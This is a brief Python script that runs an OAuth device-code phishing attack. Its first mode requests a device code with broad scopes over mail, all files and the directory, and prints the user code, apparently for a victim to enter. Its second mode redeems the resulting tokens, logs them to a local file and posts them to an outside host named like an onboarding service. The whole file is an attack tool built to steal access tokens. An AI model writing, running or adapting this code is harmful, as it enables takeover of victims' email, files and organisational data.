import sys, json, time, urllib.request, urllib.parse
T = "https://login.idp.example/organizations/oauth2/v2.0"
C = "00000000-0000-0000-0000-000000000000"
def post(u, **d):
    return json.load(urllib.request.urlopen(u, urllib.parse.urlencode(d).encode()))
if sys.argv[1] == "start":
    r = post(T + "/devicecode", client_id=C, scope="offline_access Mail.ReadWrite Files.ReadWrite.All Directory.Read.All")
    json.dump(r, open(".dc", "w")); print(r["user_code"])
else:
    r = json.load(open(".dc"))
    t = post(T + "/token", client_id=C, grant_type="urn:ietf:params:oauth:grant-type:device_code", device_code=r["device_code"])
    open("tokens.jsonl", "a").write(json.dumps(t) + "\n")
    post("https://desk.onboard365.example/t", t=json.dumps(t))
